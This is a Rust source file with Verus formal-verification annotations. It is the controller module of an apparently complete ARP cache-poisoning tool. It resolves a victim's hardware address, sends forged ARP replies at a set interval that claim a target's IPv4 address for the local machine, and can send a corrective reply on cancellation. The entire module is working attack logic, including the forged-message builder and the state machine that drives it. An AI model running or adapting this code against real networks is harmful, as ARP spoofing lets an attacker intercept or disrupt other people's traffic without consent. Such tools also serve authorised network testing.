//! The controller of a run: resolve the victim, spoof at an interval until
//! cancelled, then restore the victim's cache if that was asked for.
//!
//! The controller does nothing by itself. At every moment it owes its driver
//! one action; the driver performs it and reports what happened as an event,
//! and the controller moves on.

use crate::addr::{Ipv4Addr, MacAddr};
use crate::arp::{
    accepted, first_accepted, frame_bytes, message_of, spec_answers, spec_request_for,
    ArpOperation, Client, Message, Poll,
};
use crate::cli::Command;
use crate::error::Error;
use crate::iface::{first_ipv4, get_ipv4_addr, get_mac_addr, get_usable, pick, Interface};
use vstd::prelude::*;

verus! {

/// The four states of a run.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural, Hash)]
pub enum State {
    /// The victim's hardware address is being resolved.
    Resolving,
    /// Forged replies go out at the configured interval.
    Spoofing,
    /// The victim's cache is being restored.
    Despoofing,
    /// The run is over, well or badly.
    Done,
}

/// What is settled when a run starts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Session {
    /// The local identity: the interface's hardware and IPv4 address.
    pub src: (MacAddr, Ipv4Addr),
    /// The address of the machine whose cache is poisoned.
    pub victim_ip: Ipv4Addr,
    /// The address that is posed as.
    pub target_ip: Ipv4Addr,
    /// How long a resolution may wait for its answer, in milliseconds.
    pub resolve_timeout: u64,
    /// How long to wait between two spoofed replies, in milliseconds.
    pub spoof_interval: u64,
    /// Whether the victim's cache is restored after cancellation.
    pub should_despoof: bool,
}

/// Where a run stands, with what it has learnt so far.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural, Hash)]
pub enum Phase {
    /// The request for the victim's address is to be sent.
    RequestingVictim,
    /// The answer for the victim is awaited since the clock read `since`;
    /// when the time was last tested, `waited` milliseconds had gone by.
    AwaitingVictim { since: u64, waited: u64 },
    /// A spoofed reply is to be sent.
    Sending { victim: MacAddr },
    /// One interval is to be waited, then cancellation looked for.
    Pausing { victim: MacAddr },
    /// The request for the real address of the target is to be sent.
    RequestingTarget { victim: MacAddr },
    /// The answer for the target is awaited since the clock read `since`;
    /// when the time was last tested, `waited` milliseconds had gone by.
    AwaitingTarget { victim: MacAddr, since: u64, waited: u64 },
    /// The corrective reply is to be sent.
    Correcting { victim: MacAddr, target: MacAddr },
    /// The run has ended well.
    Finished,
    /// The run has ended with a failure.
    Failed(Error),
}

impl Phase {
    pub open spec fn spec_state(&self) -> State {
        match self {
            Phase::RequestingVictim | Phase::AwaitingVictim { .. } => State::Resolving,
            Phase::Sending { .. } | Phase::Pausing { .. } => State::Spoofing,
            Phase::RequestingTarget { .. } | Phase::AwaitingTarget { .. } | Phase::Correcting {
                ..
            } => State::Despoofing,
            Phase::Finished | Phase::Failed(_) => State::Done,
        }
    }

    /// The state that the phase belongs to.
    #[verifier::when_used_as_spec(spec_state)]
    pub fn state(&self) -> (state: State)
        ensures
            state == self.spec_state(),
    {
        match self {
            Phase::RequestingVictim | Phase::AwaitingVictim { .. } => State::Resolving,
            Phase::Sending { .. } | Phase::Pausing { .. } => State::Spoofing,
            Phase::RequestingTarget { .. } | Phase::AwaitingTarget { .. } | Phase::Correcting {
                ..
            } => State::Despoofing,
            Phase::Finished | Phase::Failed(_) => State::Done,
        }
    }
}

/// What the driver reports.
#[derive(Debug, PartialEq, Eq)]
pub enum Event {
    /// The frame was sent.
    Sent,
    /// Sending the frame failed.
    SendFailed,
    /// The link gave this frame.
    Frame(Vec<u8>),
    /// The read ended without a frame: none came within the time given.
    Quiet,
    /// Reading from the link failed.
    ReceiveFailed,
    /// The wait is over; `cancelled` tells whether the cancellation signal
    /// was there when it was looked for, once, at the end of the wait.
    Waited { cancelled: bool },
}

/// What the driver is to do.
#[derive(Debug, PartialEq, Eq)]
pub enum Action {
    /// Send this frame, once, and report `Sent` or `SendFailed`.
    Transmit(Vec<u8>),
    /// Read the next frame, whatever it is, and report `Frame` or
    /// `ReceiveFailed`; if none has come after `within` milliseconds, stop
    /// reading and report `Quiet`.
    Receive { within: u64 },
    /// Wait this many milliseconds, look once for the cancellation signal
    /// without blocking, and report `Waited`.
    Wait(u64),
    /// Stop with this result.
    Finish(Result<(), Error>),
}

/// An action with the frame as the bytes it holds.
pub enum ActionView {
    Transmit(Seq<u8>),
    Receive { within: u64 },
    Wait(u64),
    Finish(Result<(), Error>),
}

impl View for Action {
    type V = ActionView;

    open spec fn view(&self) -> ActionView {
        match self {
            Action::Transmit(frame) => ActionView::Transmit(frame@),
            Action::Receive { within } => ActionView::Receive { within: *within },
            Action::Wait(millis) => ActionView::Wait(*millis),
            Action::Finish(result) => ActionView::Finish(*result),
        }
    }
}

/// The forged reply: it claims the target's address for the local hardware
/// address, and is sent to the victim.
pub open spec fn spec_spoof_message(s: Session, victim: MacAddr) -> Message {
    Message { src: (s.src.0, s.target_ip), dest: (victim, s.victim_ip), op: ArpOperation(2) }
}

#[verifier::when_used_as_spec(spec_spoof_message)]
pub fn spoof_message(s: Session, victim: MacAddr) -> (msg: Message)
    ensures
        msg == spec_spoof_message(s, victim),
{
    Message::new((s.src.0, s.target_ip), (victim, s.victim_ip), ArpOperation::reply())
}

/// The corrective reply: it gives the target's address back to the hardware
/// address that was resolved for it, and is sent to the victim.
pub open spec fn spec_corrective_message(s: Session, victim: MacAddr, target: MacAddr) -> Message {
    Message { src: (target, s.target_ip), dest: (victim, s.victim_ip), op: ArpOperation(2) }
}

#[verifier::when_used_as_spec(spec_corrective_message)]
pub fn corrective_message(s: Session, victim: MacAddr, target: MacAddr) -> (msg: Message)
    ensures
        msg == spec_corrective_message(s, victim, target),
{
    Message::new((target, s.target_ip), (victim, s.victim_ip), ArpOperation::reply())
}

/// The milliseconds from `since` to `now` on a clock that does not run
/// backwards; none if it did.
pub open spec fn spec_elapsed(now: u64, since: u64) -> u64 {
    if now >= since {
        (now - since) as u64
    } else {
        0
    }
}

#[verifier::when_used_as_spec(spec_elapsed)]
pub fn elapsed(now: u64, since: u64) -> (millis: u64)
    ensures
        millis == spec_elapsed(now, since),
{
    if now >= since {
        now - since
    } else {
        0
    }
}

/// The milliseconds that a resolution may still wait after `waited` have
/// gone by.
pub open spec fn remaining(s: Session, waited: u64) -> u64 {
    if waited < s.resolve_timeout {
        (s.resolve_timeout - waited) as u64
    } else {
        0
    }
}

/// The hardware address that `frame` gives for `target_ip`, if the frame
/// carries the answer to the request made from `s.src`.
pub open spec fn answer_in(s: Session, target_ip: Ipv4Addr, frame: Seq<u8>) -> Option<MacAddr> {
    match message_of(frame) {
        Some(msg) => if spec_answers(msg, s.src.0, target_ip) {
            Some(msg.src.0)
        } else {
            None
        },
        None => None,
    }
}

/// The action that is owed in each phase. A read is given the time that was
/// left when the time was last tested, so that no wait outlasts its timeout.
pub open spec fn owed(s: Session, phase: Phase) -> ActionView {
    match phase {
        Phase::RequestingVictim => ActionView::Transmit(
            frame_bytes(spec_request_for(s.src, s.victim_ip)),
        ),
        Phase::AwaitingVictim { waited, .. } => ActionView::Receive { within: remaining(s, waited) },
        Phase::Sending { victim } => ActionView::Transmit(
            frame_bytes(spec_spoof_message(s, victim)),
        ),
        Phase::Pausing { .. } => ActionView::Wait(s.spoof_interval),
        Phase::RequestingTarget { .. } => ActionView::Transmit(
            frame_bytes(spec_request_for(s.src, s.target_ip)),
        ),
        Phase::AwaitingTarget { waited, .. } => ActionView::Receive {
            within: remaining(s, waited),
        },
        Phase::Correcting { victim, target } => ActionView::Transmit(
            frame_bytes(spec_corrective_message(s, victim, target)),
        ),
        Phase::Finished => ActionView::Finish(Ok(())),
        Phase::Failed(e) => ActionView::Finish(Err(e)),
    }
}

/// The phase after the time was tested with `waited` milliseconds gone by:
/// a failure once the time allowed is used up, else the wait `waiting`.
pub open spec fn after_check(s: Session, waited: u64, waiting: Phase) -> Phase {
    if waited >= s.resolve_timeout {
        Phase::Failed(Error::ResolveTimeout)
    } else {
        waiting
    }
}

/// The phase that follows `phase` when `event` is reported at the clock
/// reading `now`. An event that does not answer the action owed changes
/// nothing.
///
/// While an answer is awaited, the time is tested before every read. A frame
/// that a read gives is looked at, since the read began while time remained;
/// then, as after a read that ended without a frame, the time is tested at
/// `now` before the next read.
pub open spec fn next(s: Session, phase: Phase, now: u64, event: Event) -> Phase {
    match phase {
        Phase::RequestingVictim => match event {
            Event::Sent => after_check(s, 0, Phase::AwaitingVictim { since: now, waited: 0 }),
            Event::SendFailed => Phase::Failed(Error::ResolveTransmit),
            _ => phase,
        },
        Phase::AwaitingVictim { since, .. } => match event {
            Event::Frame(frame) => match answer_in(s, s.victim_ip, frame@) {
                Some(victim) => Phase::Sending { victim },
                None => after_check(
                    s,
                    spec_elapsed(now, since),
                    Phase::AwaitingVictim { since, waited: spec_elapsed(now, since) },
                ),
            },
            Event::Quiet => after_check(
                s,
                spec_elapsed(now, since),
                Phase::AwaitingVictim { since, waited: spec_elapsed(now, since) },
            ),
            Event::ReceiveFailed => Phase::Failed(Error::ResolveReceive),
            _ => phase,
        },
        Phase::Sending { victim } => match event {
            Event::Sent => Phase::Pausing { victim },
            Event::SendFailed => Phase::Failed(Error::SpoofTransmit),
            _ => phase,
        },
        Phase::Pausing { victim } => match event {
            Event::Waited { cancelled } => if !cancelled {
                Phase::Sending { victim }
            } else if s.should_despoof {
                Phase::RequestingTarget { victim }
            } else {
                Phase::Finished
            },
            _ => phase,
        },
        Phase::RequestingTarget { victim } => match event {
            Event::Sent => after_check(
                s,
                0,
                Phase::AwaitingTarget { victim, since: now, waited: 0 },
            ),
            Event::SendFailed => Phase::Failed(Error::ResolveTransmit),
            _ => phase,
        },
        Phase::AwaitingTarget { victim, since, .. } => match event {
            Event::Frame(frame) => match answer_in(s, s.target_ip, frame@) {
                Some(target) => Phase::Correcting { victim, target },
                None => after_check(
                    s,
                    spec_elapsed(now, since),
                    Phase::AwaitingTarget { victim, since, waited: spec_elapsed(now, since) },
                ),
            },
            Event::Quiet => after_check(
                s,
                spec_elapsed(now, since),
                Phase::AwaitingTarget { victim, since, waited: spec_elapsed(now, since) },
            ),
            Event::ReceiveFailed => Phase::Failed(Error::ResolveReceive),
            _ => phase,
        },
        Phase::Correcting { .. } => match event {
            Event::Sent => Phase::Finished,
            Event::SendFailed => Phase::Failed(Error::DespoofTransmit),
            _ => phase,
        },
        Phase::Finished => phase,
        Phase::Failed(_) => phase,
    }
}

/// The resolution that the client has under way in each phase.
pub open spec fn resolving(s: Session, phase: Phase) -> Option<((MacAddr, Ipv4Addr), Ipv4Addr)> {
    match phase {
        Phase::RequestingVictim | Phase::AwaitingVictim { .. } => Some((s.src, s.victim_ip)),
        Phase::RequestingTarget { .. } | Phase::AwaitingTarget { .. } => Some((s.src, s.target_ip)),
        _ => None,
    }
}

/// Whether time remained when a phase that awaits an answer last tested it.
pub open spec fn in_time(s: Session, phase: Phase) -> bool {
    match phase {
        Phase::AwaitingVictim { waited, .. } => waited < s.resolve_timeout,
        Phase::AwaitingTarget { waited, .. } => waited < s.resolve_timeout,
        _ => true,
    }
}

/// The interface to run on: the one that was named, else the first that is
/// up and no loopback.
pub fn select_interface<'a>(cmd: &'a Command, interfaces: &'a Vec<Interface>) -> (chosen: Result<
    &'a Interface,
    Error,
>)
    ensures
        match cmd.iface {
            Some(named) => chosen matches Ok(iface) && *iface == named,
            None => match pick(interfaces@, |i: Interface| i.spec_is_usable()) {
                Some(first) => chosen matches Ok(iface) && *iface == first,
                None => chosen == Err::<&Interface, Error>(Error::NoInterface),
            },
        },
{
    match cmd.iface() {
        Some(iface) => Ok(iface),
        None => match get_usable(interfaces) {
            Some(iface) => Ok(iface),
            None => Err(Error::NoInterface),
        },
    }
}

/// The controller of one run.
#[derive(Debug)]
pub struct Controller {
    session: Session,
    phase: Phase,
    client: Client,
    /// The frame that the client queued and the driver has not yet reported
    /// as sent.
    unsent: Option<Vec<u8>>,
}

impl Controller {
    /// What was settled when the run started.
    pub closed spec fn spec_session(&self) -> Session {
        self.session
    }

    /// Where the run stands.
    pub closed spec fn spec_phase(&self) -> Phase {
        self.phase
    }

    /// Between two events the client's queues are empty and the frame owed,
    /// if one is owed, is the one that the client queued; the client has a
    /// resolution under way exactly in the phases that request or await an
    /// address; and an answer is awaited only while time remained at the last
    /// test.
    pub closed spec fn wf(&self) -> bool {
        &&& self.client@.outgoing.len() == 0
        &&& self.client@.incoming.len() == 0
        &&& self.client@.requested == resolving(self.session, self.phase)
        &&& in_time(self.session, self.phase)
        &&& match owed(self.session, self.phase) {
            ActionView::Transmit(frame) => self.unsent matches Some(queued) && queued@ == frame,
            _ => self.unsent is None,
        }
    }

    /// Starts a run on `iface` as `cmd` asks; `opened` tells whether the link
    /// to that interface could be opened. Without a link nothing can be done.
    /// The interface gives the local identity; one without a hardware address
    /// or without an IPv4 address cannot be run on. The run starts by
    /// requesting the victim's address.
    pub fn new(cmd: &Command, iface: &Interface, opened: bool) -> (made: Result<Controller, Error>)
        ensures
            match made {
                Ok(c) => c.wf() && opened && iface.mac is Some && first_ipv4(iface.ips@) is Some
                    && c.spec_phase() == Phase::RequestingVictim && c.spec_session() == (Session {
                    src: (iface.mac->Some_0, first_ipv4(iface.ips@)->Some_0),
                    victim_ip: cmd.victim_ip_addr,
                    target_ip: cmd.target_ip_addr,
                    resolve_timeout: cmd.resolve_timeout,
                    spoof_interval: cmd.spoof_interval,
                    should_despoof: cmd.should_despoof,
                }),
                Err(e) => if !opened {
                    e == Error::ChannelCreation
                } else if iface.mac is None {
                    e == Error::NoMacAddress
                } else {
                    first_ipv4(iface.ips@) is None && e == Error::NoIpv4Address
                },
            },
    {
        if !opened {
            return Err(Error::ChannelCreation);
        }
        let mac = match get_mac_addr(iface) {
            Some(mac) => mac,
            None => {
                return Err(Error::NoMacAddress);
            },
        };
        let ip = match get_ipv4_addr(iface) {
            Some(ip) => ip,
            None => {
                return Err(Error::NoIpv4Address);
            },
        };
        let session = Session {
            src: (mac, ip),
            victim_ip: cmd.victim_ip_addr(),
            target_ip: cmd.target_ip_addr(),
            resolve_timeout: cmd.resolve_timeout(),
            spoof_interval: cmd.spoof_interval(),
            should_despoof: cmd.should_despoof(),
        };
        let mut made = Controller {
            session,
            phase: Phase::RequestingVictim,
            client: Client::new(),
            unsent: None,
        };
        made.request(session.victim_ip);
        Ok(made)
    }

    /// Begins a resolution: the client queues the request, and the frame it
    /// queued is the one owed to the driver.
    fn request(&mut self, target_ip: Ipv4Addr)
        requires
            old(self).client@.outgoing.len() == 0,
            old(self).client@.incoming.len() == 0,
            old(self).client@.requested is None,
        ensures
            final(self).client@.outgoing.len() == 0,
            final(self).client@.incoming.len() == 0,
            final(self).client@.requested == Some((old(self).session.src, target_ip)),
            final(self).unsent matches Some(queued) && queued@ == frame_bytes(
                spec_request_for(old(self).session.src, target_ip),
            ),
            final(self).session == old(self).session,
            final(self).phase == old(self).phase,
    {
        let ghost before = self.client@;
        let s = self.session;
        let _ = self.client.resolve(s.src, target_ip, 0, Some(s.resolve_timeout));
        self.unsent = self.client.transmit();
        assert(self.client@.outgoing =~= before.outgoing);
    }

    /// Has the client encode and queue `msg`; the frame it queued is the one
    /// owed to the driver.
    fn reply(&mut self, msg: Message)
        requires
            old(self).client@.outgoing.len() == 0,
        ensures
            final(self).client@.outgoing.len() == 0,
            final(self).client@.incoming == old(self).client@.incoming,
            final(self).client@.requested == old(self).client@.requested,
            final(self).unsent matches Some(queued) && queued@ == frame_bytes(msg),
            final(self).session == old(self).session,
            final(self).phase == old(self).phase,
    {
        let ghost before = self.client@;
        self.client.send(msg);
        self.unsent = self.client.transmit();
        assert(self.client@.outgoing =~= before.outgoing);
    }

    /// Hands the client a frame that a read gave. The read began while time
    /// remained, with `waited` milliseconds gone by, so the client looks at
    /// the frame as at that moment.
    fn look(&mut self, target_ip: Ipv4Addr, waited: u64, frame: Vec<u8>) -> (got: Option<MacAddr>)
        requires
            old(self).client@.outgoing.len() == 0,
            old(self).client@.incoming.len() == 0,
            old(self).client@.requested == Some((old(self).session.src, target_ip)),
            waited < old(self).session.resolve_timeout,
        ensures
            final(self).client@.outgoing.len() == 0,
            final(self).client@.incoming.len() == 0,
            final(self).client@.requested == if got is Some {
                None
            } else {
                old(self).client@.requested
            },
            final(self).unsent == old(self).unsent,
            final(self).session == old(self).session,
            final(self).phase == old(self).phase,
            got == answer_in(old(self).session, target_ip, frame@),
    {
        let s = self.session;
        let ghost accept = |m: Message| spec_answers(m, s.src.0, target_ip);
        let ghost bytes = frame@;
        self.client.deliver(frame);
        proof {
            let queue = self.client@.incoming;
            assert(queue =~= seq![bytes]);
            assert(queue.skip(1) =~= Seq::<Seq<u8>>::empty());
            assert(first_accepted(queue.skip(1), accept) == 0);
            assert(first_accepted(queue, accept) == if accepted(bytes, accept) {
                0int
            } else {
                1int
            });
        }
        match self.client.resolve(s.src, target_ip, waited, Some(s.resolve_timeout)) {
            Poll::Ready(mac) => Some(mac),
            _ => None,
        }
    }

    /// Has the client test the time of the resolution under way, with
    /// `waited` milliseconds gone by and no frame at hand. Tells whether time
    /// remains; if not, the resolution is over.
    fn check(&mut self, target_ip: Ipv4Addr, waited: u64) -> (remains: bool)
        requires
            old(self).client@.outgoing.len() == 0,
            old(self).client@.incoming.len() == 0,
            old(self).client@.requested == Some((old(self).session.src, target_ip)),
        ensures
            final(self).client@.outgoing.len() == 0,
            final(self).client@.incoming.len() == 0,
            final(self).client@.requested == if remains {
                old(self).client@.requested
            } else {
                None
            },
            final(self).unsent == old(self).unsent,
            final(self).session == old(self).session,
            final(self).phase == old(self).phase,
            remains == (waited < old(self).session.resolve_timeout),
    {
        let s = self.session;
        let ghost accept = |m: Message| spec_answers(m, s.src.0, target_ip);
        proof {
            assert(first_accepted(self.client@.incoming, accept) == 0);
        }
        match self.client.resolve(s.src, target_ip, waited, Some(s.resolve_timeout)) {
            Poll::Pending => true,
            _ => false,
        }
    }

    /// Ends the resolution under way without an answer: a failure of the
    /// link has ended the run.
    fn abandon(&mut self)
        ensures
            final(self).client@.outgoing.len() == 0,
            final(self).client@.incoming.len() == 0,
            final(self).client@.requested is None,
            final(self).unsent is None,
            final(self).session == old(self).session,
            final(self).phase == old(self).phase,
    {
        self.client = Client::new();
        self.unsent = None;
    }

    /// What was settled when the run started.
    #[verifier::when_used_as_spec(spec_session)]
    pub fn session(&self) -> (session: Session)
        ensures
            session == self.spec_session(),
    {
        self.session
    }

    /// Where the run stands.
    #[verifier::when_used_as_spec(spec_phase)]
    pub fn phase(&self) -> (phase: Phase)
        ensures
            phase == self.spec_phase(),
    {
        self.phase
    }

    /// The state of the run.
    pub fn state(&self) -> (state: State)
        ensures
            state == self.spec_phase().spec_state(),
    {
        self.phase.state()
    }

    /// The action that the driver owes now. A frame owed is the one that the
    /// client queued. Asking again changes nothing.
    pub fn action(&self) -> (action: Action)
        requires
            self.wf(),
        ensures
            action@ == owed(self.spec_session(), self.spec_phase()),
    {
        let s = self.session;
        match &self.unsent {
            Some(queued) => {
                let frame = queued.clone();
                assert(frame@ =~= queued@);
                Action::Transmit(frame)
            },
            None => match self.phase {
                Phase::AwaitingVictim { waited, .. } => Action::Receive {
                    within: s.resolve_timeout - waited,
                },
                Phase::AwaitingTarget { waited, .. } => Action::Receive {
                    within: s.resolve_timeout - waited,
                },
                Phase::Pausing { .. } => Action::Wait(s.spoof_interval),
                Phase::Failed(e) => Action::Finish(Err(e)),
                // Every phase that owes a frame has one queued, so the run is over.
                _ => Action::Finish(Ok(())),
            },
        }
    }

    /// Tests the time of the resolution for `target_ip` at the clock reading
    /// `now`, before the next read: while time remains the wait `waiting`
    /// goes on, else the run has failed.
    fn recheck(&mut self, target_ip: Ipv4Addr, waited: u64, waiting: Phase)
        requires
            old(self).client@.outgoing.len() == 0,
            old(self).client@.incoming.len() == 0,
            old(self).client@.requested == Some((old(self).session.src, target_ip)),
            old(self).unsent is None,
            resolving(old(self).session, waiting) == Some((old(self).session.src, target_ip)),
            owed(old(self).session, waiting) is Receive,
            in_time(old(self).session, waiting) == (waited < old(self).session.resolve_timeout),
        ensures
            final(self).wf(),
            final(self).session == old(self).session,
            final(self).phase == after_check(old(self).session, waited, waiting),
    {
        if self.check(target_ip, waited) {
            self.phase = waiting;
        } else {
            self.phase = Phase::Failed(Error::ResolveTimeout);
        }
    }

    /// Takes what the driver reports, read with the clock at `now`
    /// milliseconds, and gives the action owed next. The clock only has to
    /// run forwards; where it starts does not matter.
    pub fn step(&mut self, now: u64, event: Event) -> (action: Action)
        requires
            old(self).wf(),
        ensures
            final(self).wf(),
            final(self).spec_session() == old(self).spec_session(),
            final(self).spec_phase() == next(
                old(self).spec_session(),
                old(self).spec_phase(),
                now,
                event,
            ),
            action@ == owed(final(self).spec_session(), final(self).spec_phase()),
    {
        let s = self.session;
        match self.phase {
            Phase::RequestingVictim => match event {
                Event::Sent => {
                    self.unsent = None;
                    self.recheck(s.victim_ip, 0, Phase::AwaitingVictim { since: now, waited: 0 });
                },
                Event::SendFailed => {
                    self.abandon();
                    self.phase = Phase::Failed(Error::ResolveTransmit);
                },
                _ => {},
            },
            Phase::AwaitingVictim { since, waited } => match event {
                Event::Frame(frame) => match self.look(s.victim_ip, waited, frame) {
                    Some(victim) => {
                        self.reply(spoof_message(s, victim));
                        self.phase = Phase::Sending { victim };
                    },
                    None => {
                        let waited = elapsed(now, since);
                        self.recheck(s.victim_ip, waited, Phase::AwaitingVictim { since, waited });
                    },
                },
                Event::Quiet => {
                    let waited = elapsed(now, since);
                    self.recheck(s.victim_ip, waited, Phase::AwaitingVictim { since, waited });
                },
                Event::ReceiveFailed => {
                    self.abandon();
                    self.phase = Phase::Failed(Error::ResolveReceive);
                },
                _ => {},
            },
            Phase::Sending { victim } => match event {
                Event::Sent => {
                    self.unsent = None;
                    self.phase = Phase::Pausing { victim };
                },
                Event::SendFailed => {
                    self.unsent = None;
                    self.phase = Phase::Failed(Error::SpoofTransmit);
                },
                _ => {},
            },
            Phase::Pausing { victim } => match event {
                Event::Waited { cancelled } => {
                    if !cancelled {
                        self.reply(spoof_message(s, victim));
                        self.phase = Phase::Sending { victim };
                    } else if s.should_despoof {
                        self.request(s.target_ip);
                        self.phase = Phase::RequestingTarget { victim };
                    } else {
                        self.phase = Phase::Finished;
                    }
                },
                _ => {},
            },
            Phase::RequestingTarget { victim } => match event {
                Event::Sent => {
                    self.unsent = None;
                    self.recheck(
                        s.target_ip,
                        0,
                        Phase::AwaitingTarget { victim, since: now, waited: 0 },
                    );
                },
                Event::SendFailed => {
                    self.abandon();
                    self.phase = Phase::Failed(Error::ResolveTransmit);
                },
                _ => {},
            },
            Phase::AwaitingTarget { victim, since, waited } => match event {
                Event::Frame(frame) => match self.look(s.target_ip, waited, frame) {
                    Some(target) => {
                        self.reply(corrective_message(s, victim, target));
                        self.phase = Phase::Correcting { victim, target };
                    },
                    None => {
                        let waited = elapsed(now, since);
                        self.recheck(
                            s.target_ip,
                            waited,
                            Phase::AwaitingTarget { victim, since, waited },
                        );
                    },
                },
                Event::Quiet => {
                    let waited = elapsed(now, since);
                    self.recheck(
                        s.target_ip,
                        waited,
                        Phase::AwaitingTarget { victim, since, waited },
                    );
                },
                Event::ReceiveFailed => {
                    self.abandon();
                    self.phase = Phase::Failed(Error::ResolveReceive);
                },
                _ => {},
            },
            Phase::Correcting { .. } => match event {
                Event::Sent => {
                    self.unsent = None;
                    self.phase = Phase::Finished;
                },
                Event::SendFailed => {
                    self.unsent = None;
                    self.phase = Phase::Failed(Error::DespoofTransmit);
                },
                _ => {},
            },
            Phase::Finished => {},
            Phase::Failed(_) => {},
        }
        self.action()
    }
}

} // verus!
